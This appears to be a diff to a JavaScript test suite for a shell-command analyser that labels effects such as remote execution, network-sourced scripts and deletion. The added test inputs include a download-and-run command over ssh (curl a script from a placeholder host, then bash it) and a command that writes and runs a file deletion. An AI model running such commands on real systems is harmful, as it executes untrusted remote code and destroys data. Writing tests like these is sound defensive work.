@@ -224,6 +224,10 @@ describe("carriers", () => {
     expect(effects("bash setup.sh")).toEqual(["execute /repo/app/setup.sh source=file language=shell"]);
     expect(effects("ssh host bash setup.sh")).toContain("execute ‹any›/setup.sh source=file language=shell remote");
     expect(effects("docker run img bash setup.sh")).toContain("execute ‹any›/setup.sh source=file language=shell container");
+    expect(effects("ssh host 'curl -o i.sh https://x.io/i; bash i.sh'").join("\n")).toMatch(
+      /execute .*i\.sh source=network language=shell remote/,
+    );
+    expect(effects("ssh host 'echo rm x > i.sh; bash i.sh'")).toContain("delete ‹any›/x remote");
     expect(effects("ssh host 'source ~/.profile'")).toContain("execute ‹any›/.profile source=file language=shell remote");
     expect(effects('docker run img bash "$X"').join(" ")).not.toContain("source=file");
     expect(effects("npm install left-pad")).toContain("execute source=registry name=left-pad");
